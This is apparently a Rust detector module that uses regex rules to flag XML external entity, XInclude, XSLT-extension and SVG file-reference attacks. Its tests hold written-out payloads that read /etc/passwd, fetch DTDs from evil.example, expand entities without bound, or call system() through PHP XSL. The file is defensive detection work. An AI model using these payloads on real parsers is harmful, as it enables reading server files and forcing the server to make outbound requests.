//! External entities of XML (CWE-611, CWE-776; OWASP WSTG-INPV-07): a document type that fetches
//! something or grows without end; and what needs no document type to fetch or to run something:
//! XInclude, stylesheets, pictures that name files.

use super::{
    BuildError, Detector, Family, Finding, Marks, Rule, RuleSet, Value, doctype, lexicon::Lexicon, rules::always,
};
use crate::places::{Part, Role};

pub(super) const RULES: &[Rule] = &[
    always("external-type", r"<!DOCTYPE[^>\[]*\b(?:SYSTEM|PUBLIC)\s"),
    always(
        "entity",
        r#"<!ENTITY\b\s*%?\s*[\w:.-]+\s+(?:SYSTEM|PUBLIC)|!ENTITY\b[^>]*\bSYSTEM\b"#,
    ),
    // one that stands for text: for one sign and for a namespace they are honest (XSLT, drawings of
    // Illustrator)
    always(
        "entity-text",
        r#"<!ENTITY\b\s*%?\s*[\w:.-]+\s+(?:["'](?:[^h"'\x80-\xFF][^"']|h[^t]|ht[^t]|htt[^p]|http[^s:])|["'][^"']*[&%<])"#,
    ),
    always(
        "include",
        r#"<\w*:?include\b[^>]*\bhref\s*=[^>]*\bparse=|http://www\.w3\.org/2001/XInclude|<\?xml-stylesheet\b[^>]*href\s*=\s*["']\s*(?:(?:https?:)?//|file:|data:|javascript:|vbscript:|/|\\\\|\.\.)"#,
    ),
    // functions and languages that processors of stylesheets offer (XSLT 1.0, section 12.1; Xalan,
    // Saxon, libxslt, MSXML)
    always(
        "stylesheet",
        r#"<xsl:(?:include|import|source-document)\b[^>]*\bhref\s*=\s*["']\s*(?:[a-z][a-z0-9+.-]*:|/|\\|\.\.)|<xsl:[^>]*\b(?:document|doc|unparsed-text|unparsed-text-lines)\s*\(\s*['"]|xmlns:\w+\s*=\s*["'](?:http://php\.net/xsl|http://xml\.apache\.org/(?:xalan|xslt)|http://exslt\.org/common/document|urn:schemas-microsoft-com:xslt|java:|clitype:|http://saxon\.sf\.net/java)|<msxsl:script\b|<xsl:(?:result-document|evaluate)\b|\bsystem-property\s*\(\s*['"]xsl:ven"#,
    ),
    // what renderers of vector graphics open (ImageMagick's coders, librsvg, Batik)
    always(
        "picture-file",
        r#"<(?:image|img|feimage|use|script|tref)\b[^>]*\bhref\s*=\s*["']\s*(?:file|text|label|ephemeral|msl|mvg|expect|gopher|jar|php|epi|ps|pdf):"#,
    ),
    // a description that is fetched from where no partner publishes: files, other services,
    // addresses in place of names, and hosts of random letters and digits, by which a tester sees
    // who called
    always(
        "schema",
        r#"(?:schema|wsdl)Location\s*=\s*["'](?:[^"']*\s)?\s*(?:(?:file|jar|ftp|gopher|netdoc|php|data|expect|ldaps?):|\\\\|//|/(?:etc|proc|dev|var|root|home|sys)/|(?:\.\./){2}|https?:/*(?:[^\s"'/]*@)?(?:\d+(?:\.|[:/"'\s])|0x|localhost\b|\[|metadata\b)|https?:/*(?:[a-z]*\d+[a-z]+){3}[a-z0-9]*\.|https?:/*[^\s"'/]*\.(?:burpcollaborator\.net|oast\.\w+|oastify\.com|interact\.sh|dnslog\.cn|requestbin\.net|canarytokens\.com|nip\.io|sslip\.io)\b)"#,
    ),
    // WordPress lets anyone make it call others (CVE-2013-0235)
    always("pingback", r"<methodName>\s*pingback\.ping"),
    // a reference to what nothing declares, and a declaration without a document, or with one that
    // is named as tests are and says nothing: questions to a parser, no documents
    always("undeclared", r"<[\w:.-]+>[^<>&]*&[a-z_][\w.-]*;[^<>]*</"),
    always(
        "no-document",
        r"^\W{0,3}<\?xml\s[^<>]*\?>\s*(?:<(?:test|foo|bar|baz|xxe|poc|a|b|x)>\s*</\w+>\s*)?$",
    ),
];

/// Finds external entities.
pub(super) struct Xxe {
    rules: RuleSet,
}

impl Xxe {
    pub(super) fn new(lexicon: &mut Lexicon) -> Result<Self, BuildError> {
        Ok(Self {
            rules: RuleSet::with(RULES, lexicon)?,
        })
    }
}

impl Detector for Xxe {
    fn family(&self) -> Family {
        Family::Xxe
    }

    fn wants(&self, marks: Marks) -> bool {
        marks.any(Marks::ANGLE.and(Marks::OTHER).and(Marks::QUOTE))
    }

    fn look(&self, value: &Value<'_>) -> Option<Finding> {
        // documents, files that are one, and values that are parsed as such further in
        if value.role == Role::FileName {
            return None;
        }
        self.rules.judge_by(value, |rule| match rule.name {
            // partners send documents as bodies and as files
            "external-type" => doctype::fetches(value.text, value.place.part == Part::Body),
            "entity-text" => !(value.place.part == Part::Body && doctype::declares_words(value.text)),
            "undeclared" => value.role == Role::Document && !has_type(value.text) && doctype::refers(value.text),
            "no-document" => value.role == Role::Document,
            _ => true,
        })
    }
}

/// Whether a document has a type, which may declare entities.
fn has_type(text: &str) -> bool {
    text.as_bytes()
        .windows(9)
        .any(|part| part.eq_ignore_ascii_case(b"<!doctype"))
}

#[cfg(test)]
mod tests {
    use super::super::tests::{assert_finds, assert_passes, find_as, find_in_query};
    use crate::places::Role;

    #[test]
    fn attacks_are_found() {
        assert_finds(
            "xxe",
            &[
                r##"<!DOCTYPE x SYSTEM "//x/x"><x/>"##,
                r##"<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"##,
                r##"<!ENTITY % a PUBLIC "x" "http://evil.example/">"##,
                r##"<!DOCTYPE lolz [<!ENTITY lol "lol">]>"##,
                r##"<xi:include href="file:///etc/passwd" parse="text"/>"##,
                r##"<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://evil.example/x.dtd"><x/>"##,
                r##"<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>"##,
                r##"<!DOCTYPE l [<!ENTITY a "http://x"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>"##,
                r##"<!DOCTYPE r [<!ENTITY % d SYSTEM "http://evil.example/x.dtd"> %d;]>"##,
                r##"<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></foo>"##,
                r##"<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><a/>"##,
                r##"<xsl:value-of select="document('file:///etc/passwd')"/>"##,
                r##"<xsl:include href="http://evil.example/x.xsl"/>"##,
                r##"<xsl:stylesheet xmlns:php="http://php.net/xsl"><xsl:value-of select="php:function('system','id')"/>"##,
                r##"<xsl:stylesheet xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime">"##,
                r##"<msxsl:script language="C#" implements-prefix="u">"##,
                r##"<svg><image xlink:href="text:/etc/passwd"/></svg>"##,
                r##"<svg><image href='file:///etc/hostname'/></svg>"##,
                r##"<a xsi:schemaLocation="x file:///etc/passwd"/>"##,
                r##"<?xml-stylesheet href="javascript:alert(1)"?><a/>"##,
                r##"<!DOCTYPE x [<!NOTATION gif SYSTEM "file:///bin/sh"><!ENTITY p SYSTEM "a.gif" NDATA gif>]>"##,
            ],
        );
    }

    #[test]
    fn documents_and_files_are_looked_into() {
        let of = |role, text: &str| find_as(role, "a.svg", text).map(|(family, _)| family);
        let svg = r#"<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg>&x;</svg>"#;
        assert_eq!(of(Role::FileHead, svg), Some("xxe"));
        assert_eq!(of(Role::Document, "<a><b>&xxe;</b></a>"), Some("xxe"));
        assert_eq!(
            of(Role::Document, r#"<?xml version="1.0" encoding="UTF-8"?>"#),
            Some("xxe")
        );
        assert_eq!(of(Role::Document, "<a><b>&amp;</b></a>"), None);
        assert_eq!(of(Role::Document, r#"<?xml version="1.0"?><test></test>"#), Some("xxe"));
        assert_eq!(of(Role::Document, r#"<?xml version="1.0"?><orders></orders>"#), None);
        assert_eq!(
            of(
                Role::Document,
                "<p>Fish&nbsp;&amp;&nbsp;chips, caf&eacute; &mdash; 5&euro;</p>"
            ),
            None
        );
        assert_eq!(of(Role::Document, r#"<?xml version="1.0"?><a/>"#), None);
        assert_eq!(of(Role::Document, r#"<?xml version="1.0"?><a>1</a>"#), None);
        assert_eq!(
            of(Role::Document, r#"<?xml version="1.0"?><a xmlns="urn:x"></a>"#),
            None
        );
        assert_eq!(
            of(Role::Value, "<td>&euro;</td>"),
            None,
            "markup, whose names are HTML's"
        );
        let drawing = r#"<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
            <!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/">
            <!ENTITY ns_svg "http://www.w3.org/2000/svg">
        ]><svg xmlns:x="&ns_extend;" xmlns="&ns_svg;"/>"#;
        let order = r#"<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.024/cXML.dtd"><cXML/>"#;
        for role in [Role::Document, Role::Value, Role::FileHead] {
            assert_eq!(of(role, order), None);
        }
        assert_eq!(
            find_in_query("q", order).unwrap().0,
            "xxe",
            "no partner sends one in a query"
        );
        assert_eq!(of(Role::FileHead, drawing), None);
        assert_eq!(of(Role::Document, drawing), None);
    }

    #[test]
    fn look_alikes_pass() {
        assert_passes(&[
            r##"<!DOCTYPE html>"##,
            r##"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">"##,
            r##"<a>text</a>"##,
            r##"<!DOCTYPE xsl:stylesheet [<!ENTITY nbsp "&#160;"><!ENTITY copy "&#169;">]><a/>"##,
            r##"<?xml-stylesheet type="text/css" href="style.css"?><a/>"##,
            r##"<a xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd"/>"##,
            r##"the entity system"##,
        ]);
    }
}
